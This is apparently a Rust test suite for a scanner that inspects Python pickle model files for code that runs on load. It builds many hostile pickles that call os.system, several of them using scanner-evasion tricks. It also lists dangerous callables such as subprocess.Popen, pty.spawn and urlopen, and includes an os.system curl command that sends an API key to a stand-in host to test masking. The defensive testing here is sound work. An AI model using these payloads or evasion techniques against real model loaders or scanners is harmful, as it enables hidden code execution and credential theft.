//! What pickles run: known attacks, known ways around scanners, and what ordinary models do.

use aispm_formats::FormatId;
use aispm_testkit::pickle::{Assembler as A, call0, call4, state_dict};

use super::{calls, read_as};

pub(crate) struct Case {
    what: &'static str,
    bytes: Vec<u8>,
    /// Imports and calls, in any order.
    calls: &'static [&'static str],
    /// Read to its end.
    complete: bool,
}

pub(crate) fn case(what: &'static str, bytes: Vec<u8>, calls: &'static [&'static str]) -> Case {
    Case {
        what,
        bytes,
        calls,
        complete: true,
    }
}

pub(crate) fn broken(what: &'static str, bytes: Vec<u8>, calls: &'static [&'static str]) -> Case {
    Case {
        what,
        bytes,
        calls,
        complete: false,
    }
}

pub(crate) fn check(cases: Vec<Case>) {
    for c in cases {
        let seen = read_as(&c.bytes, FormatId::Pickle);
        let (mut saw, mut expected) = (calls(&seen), c.calls.to_vec());
        saw.sort();
        expected.sort_unstable();
        assert_eq!(saw, expected, "{}", c.what);
        assert_eq!(seen.complete(), c.complete, "{}: {:?}", c.what, seen.unread);
    }
}

pub(crate) const SYSTEM: &[&str] = &["!os.system()"];

#[test]
fn every_way_to_name_and_call() {
    let reduce = || A::proto(4).stack_global("os", "system").text("id").tuple1();
    check(vec![
        case(
            "protocol 0, GLOBAL and REDUCE",
            call0("os", "system", "id"),
            SYSTEM,
        ),
        case(
            "protocol 4, STACK_GLOBAL and REDUCE",
            call4("os", "system", "id"),
            SYSTEM,
        ),
        case(
            "INST",
            A::new().mark().string("id").inst("os", "system").stop(),
            SYSTEM,
        ),
        case(
            "OBJ",
            A::new()
                .mark()
                .global("os", "system")
                .string("id")
                .raw(b"o")
                .stop(),
            SYSTEM,
        ),
        case("NEWOBJ", reduce().raw(b"\x81").stop(), SYSTEM),
        case("NEWOBJ_EX", reduce().raw(b"}\x92").stop(), SYSTEM),
        case(
            "an import alone",
            A::new().global("os", "system").stop(),
            &["!os.system"],
        ),
        case(
            "the result is dropped",
            reduce().reduce().pop().raw(b"N").stop(),
            SYSTEM,
        ),
        case(
            "OBJ whose result is dropped",
            A::proto(4)
                .mark()
                .stack_global("smtplib", "SMTP")
                .text("h")
                .raw(b"o0N")
                .stop(),
            &["!smtplib.SMTP()"],
        ),
        case(
            "dropped with its mark",
            A::proto(4)
                .mark()
                .stack_global("os", "system")
                .text("id")
                .tuple1()
                .reduce()
                .raw(b"1N")
                .stop(),
            SYSTEM,
        ),
        case(
            "inside a list",
            A::proto(4)
                .raw(b"](")
                .stack_global("os", "system")
                .text("id")
                .tuple1()
                .reduce()
                .raw(b"e")
                .stop(),
            SYSTEM,
        ),
        case(
            "as a key of a dictionary",
            A::proto(4)
                .raw(b"}")
                .stack_global("os", "system")
                .text("id")
                .tuple1()
                .reduce()
                .raw(b"Ns")
                .stop(),
            SYSTEM,
        ),
        case(
            "DUP of the callable",
            A::proto(2)
                .global("os", "system")
                .raw(b"2")
                .binunicode("id")
                .tuple1()
                .reduce()
                .stop(),
            SYSTEM,
        ),
        case(
            "arguments that are no tuple",
            A::proto(2)
                .global("os", "system")
                .binunicode("id")
                .reduce()
                .stop(),
            SYSTEM,
        ),
        case(
            "the result of a call is called",
            A::proto(4)
                .stack_global("operator", "methodcaller")
                .text("system")
                .tuple1()
                .reduce()
                .raw(b")")
                .reduce()
                .stop(),
            &["!operator.methodcaller()", "!operator.methodcaller()()"],
        ),
        case(
            "BUILD on a class",
            A::proto(2)
                .global("torch", "_utils")
                .raw(b"}")
                .binunicode("f")
                .global("builtins", "exec")
                .raw(b"sb")
                .stop(),
            &["!builtins.exec", "?torch._utils.__setstate__()"],
        ),
        case(
            "an item set on a module",
            A::proto(2)
                .global("sys", "modules")
                .binunicode("torch")
                .global("os", "x")
                .raw(b"s")
                .stop(),
            &["!sys.modules.__setitem__()", "!os.x"],
        ),
        case(
            "APPEND on an import",
            A::proto(2)
                .global("sys", "path")
                .binunicode("/tmp")
                .raw(b"a")
                .stop(),
            &["!sys.path.__setitem__()"],
        ),
    ]);
}

#[test]
fn names_that_hide() {
    check(vec![
        case(
            "names from the memo",
            A::proto(4)
                .text("os")
                .raw(b"\x94")
                .text("system")
                .raw(b"\x94")
                .pop()
                .pop()
                .get(0)
                .get(1)
                .raw(b"\x93")
                .text("id")
                .tuple1()
                .reduce()
                .stop(),
            SYSTEM,
        ),
        case(
            "a memo entry that is overwritten",
            A::proto(4)
                .text("math")
                .put(0)
                .pop()
                .text("os")
                .put(0)
                .pop()
                .get(0)
                .text("system")
                .raw(b"\x93")
                .text("id")
                .tuple1()
                .reduce()
                .stop(),
            SYSTEM,
        ),
        case(
            "MEMOIZE counts entries, not opcodes",
            A::proto(4)
                .text("math")
                .put(0)
                .put(0)
                .pop()
                .text("os")
                .raw(b"\x94")
                .pop()
                .get(1)
                .text("system")
                .raw(b"\x93")
                .text("id")
                .tuple1()
                .reduce()
                .stop(),
            SYSTEM,
        ),
        case(
            "LONG_BINPUT far away",
            A::proto(4)
                .text("os")
                .raw(b"r\xff\xff\xff\x7f")
                .text("system")
                .raw(b"\x93")
                .text("id")
                .tuple1()
                .reduce()
                .stop(),
            SYSTEM,
        ),
        case(
            "PUT and GET as lines",
            A::new()
                .unicode("os")
                .raw(b"p7\n0g7\n")
                .unicode("system")
                .raw(b"\x93")
                .string("id")
                .tuple1()
                .reduce()
                .stop(),
            SYSTEM,
        ),
        case(
            "a name as escaped STRING",
            A::new().raw(b"S'\\x6fs'\nS'\\163ystem'\n\x93(S'id'\ntR").stop(),
            SYSTEM,
        ),
        case(
            "a name as escaped UNICODE",
            A::new()
                .unicode("\\u006fs")
                .unicode("\\u0073ystem")
                .raw(b"\x93")
                .string("id")
                .tuple1()
                .reduce()
                .stop(),
            SYSTEM,
        ),
        case(
            "SHORT_BINSTRING names",
            A::proto(2)
                .raw(b"U\x02osU\x06system\x93")
                .binunicode("id")
                .tuple1()
                .reduce()
                .stop(),
            SYSTEM,
        ),
        case(
            "BINUNICODE8 names",
            A::proto(4)
                .raw(b"\x8d\x02\0\0\0\0\0\0\0os")
                .text("system")
                .raw(b"\x93")
                .text("id")
                .tuple1()
                .reduce()
                .stop(),
            SYSTEM,
        ),
        case(
            "opcodes between the names",
            A::proto(4)
                .text("os")
                .raw(b"N0(1")
                .text("system")
                .raw(b"I1\n0\x93")
                .text("id")
                .tuple1()
                .reduce()
                .stop(),
            SYSTEM,
        ),
        case(
            "a walk from another module",
            call4("torch", "os.system", "id"),
            &["!torch.os.system()"],
        ),
        case(
            "a walk from a harmless class",
            call4("collections", "OrderedDict.__init__.__globals__", "id"),
            &["!collections.OrderedDict.__init__.__globals__()"],
        ),
        case(
            "a walk from the standard library",
            call4("pathlib", "os.system", "id"),
            &["!pathlib.os.system()"],
        ),
        case(
            "posix for os",
            call4("posix", "system", "id"),
            &["!posix.system()"],
        ),
        case("nt for os", call0("nt", "system", "id"), &["!nt.system()"]),
        case(
            "Python 2's name for builtins",
            call0("__builtin__", "eval", "1"),
            &["!__builtin__.eval()"],
        ),
        case(
            "a name computed while loading",
            A::proto(4)
                .text("os")
                .stack_global("builtins", "str")
                .text("x")
                .tuple1()
                .reduce()
                .raw(b"\x93)R")
                .stop(),
            &["builtins.str()", "!os.name computed on load()"],
        ),
        case(
            "a number for a name",
            A::proto(4).int(1).text("system").raw(b"\x93)R").stop(),
            &["!.name computed on load()"],
        ),
        case(
            "EXT of an unknown number",
            A::proto(2).raw(b"\x82\x07)R").stop(),
            &["?copyreg.extension 7()"],
        ),
        case(
            "EXT of a number that the pickle registers",
            A::proto(2)
                .global("copyreg", "add_extension")
                .mark()
                .binunicode("os")
                .binunicode("system")
                .int(300)
                .tuple()
                .reduce()
                .pop()
                .raw(b"\x83\x2c\x01")
                .binunicode("id")
                .tuple1()
                .reduce()
                .stop(),
            &["!copyreg.add_extension()", "!os.system()"],
        ),
        case(
            "a private module of a newer Python",
            call4("_interpreters", "create", ""),
            &["!_interpreters.create()"],
        ),
    ]);
}

#[test]
fn callables_that_reach_out() {
    for (module, name) in [
        ("builtins", "exec"),
        ("builtins", "compile"),
        ("builtins", "open"),
        ("builtins", "__import__"),
        ("builtins", "getattr"),
        ("subprocess", "Popen"),
        ("importlib", "import_module"),
        ("runpy", "run_path"),
        ("pty", "spawn"),
        ("socket", "create_connection"),
        ("urllib.request", "urlopen"),
        ("requests", "get"),
        ("shutil", "rmtree"),
        ("ctypes", "CDLL"),
        ("types", "FunctionType"),
        ("marshal", "loads"),
        ("pickle", "loads"),
        ("torch", "load"),
        ("torch.hub", "load"),
        ("numpy.testing._private.utils", "runstring"),
        ("pip", "main"),
        ("timeit", "timeit"),
        ("cProfile", "run"),
        ("bdb", "Bdb.run"),
        ("code", "InteractiveInterpreter.runcode"),
        ("webbrowser", "open"),
        ("multiprocessing.util", "spawnv_passfds"),
        ("logging.config", "dictConfig"),
        ("asyncio", "run"),
        ("ssl", "get_server_certificate"),
        ("ftplib", "FTP"),
        ("doctest", "debug_script"),
        ("lib2to3.pgen2.grammar", "Grammar.loads"),
        ("uuid", "_get_command_stdout"),
        ("idlelib.calltip", "get_entity"),
        ("pydoc", "locate"),
        ("pkgutil", "resolve_name"),
        ("torch._inductor.codecache", "compile_file"),
        ("joblib", "load"),
        ("dill._dill", "_import_module"),
        ("pandas", "read_pickle"),
    ] {
        let seen = read_as(&call4(module, name, "x"), FormatId::Pickle);
        assert_eq!(calls(&seen), [format!("!{module}.{name}()")]);
        assert_eq!(seen.executes_on_load(), Some(true));
    }
}

#[test]
fn ordinary_models_are_harmless() {
    check(vec![
        case(
            "a state dictionary",
            state_dict(&[10, 4]),
            &[
                "collections.OrderedDict()",
                "torch.FloatStorage",
                "torch._utils._rebuild_tensor_v2()",
            ],
        ),
        case("a list", A::proto(2).raw(b"](K\x01K\x02e").stop(), &[]),
        case(
            "partial of a harmless function",
            A::proto(4)
                .stack_global("functools", "partial")
                .stack_global("torch.nn.functional", "relu")
                .tuple1()
                .reduce()
                .stop(),
            &["torch.nn.functional.relu", "functools.partial()"],
        ),
        case(
            "a member of an enumeration, Python 3.11",
            A::proto(4)
                .stack_global("builtins", "getattr")
                .stack_global("transformers.trainer_utils", "SchedulerType")
                .text("LINEAR")
                .tuple2()
                .reduce()
                .stop(),
            &["transformers.trainer_utils.SchedulerType", "builtins.getattr()"],
        ),
    ]);
    let seen = read_as(&state_dict(&[10, 4]), FormatId::Pickle);
    assert_eq!(seen.executes_on_load(), Some(false));
    assert_eq!((seen.header.tensors, seen.header.parameters), (Some(1), Some(40)));
    assert_eq!(seen.header.dtypes.into_iter().collect::<Vec<_>>(), ["float"]);
}

#[test]
fn what_is_on_no_list_is_unknown() {
    check(vec![
        case(
            "a class of the project",
            call4("mymodel.net", "Net", "x"),
            &["?mymodel.net.Net()"],
        ),
        case(
            "partial of an unknown function",
            A::proto(4)
                .stack_global("functools", "partial")
                .stack_global("mymodel.net", "act")
                .tuple1()
                .reduce()
                .stop(),
            &["?mymodel.net.act", "?functools.partial()"],
        ),
        case(
            "partial of a dangerous function",
            A::proto(4)
                .stack_global("functools", "partial")
                .stack_global("os", "system")
                .text("id")
                .tuple2()
                .reduce()
                .stop(),
            &["!os.system", "!functools.partial()"],
        ),
        case(
            "getattr on a module",
            A::proto(4)
                .stack_global("builtins", "getattr")
                .stack_global("numpy", "random")
                .text("load")
                .tuple2()
                .reduce()
                .stop(),
            &["?numpy.random", "!builtins.getattr()"],
        ),
    ]);
    assert_eq!(
        read_as(&call4("mymodel.net", "Net", "x"), FormatId::Pickle).executes_on_load(),
        None
    );
}

#[test]
fn arguments_are_shown_short_and_masked() {
    let key = ["sk", "-ant-", "api03-abcdEFGH1234ijklMNOP5678"].concat();
    let seen = read_as(
        &call4(
            "os",
            "system",
            &format!("curl -H 'x-api-key: {key}' http://h.example"),
        ),
        FormatId::Pickle,
    );
    assert_eq!(
        seen.calls[0].args,
        ["curl -H 'x-api-key: [masked]' http://h.example"]
    );
    let long = read_as(&call4("os", "system", &"a b ".repeat(10_000)), FormatId::Pickle);
    assert!(long.calls[0].args[0].chars().count() <= 161);
}
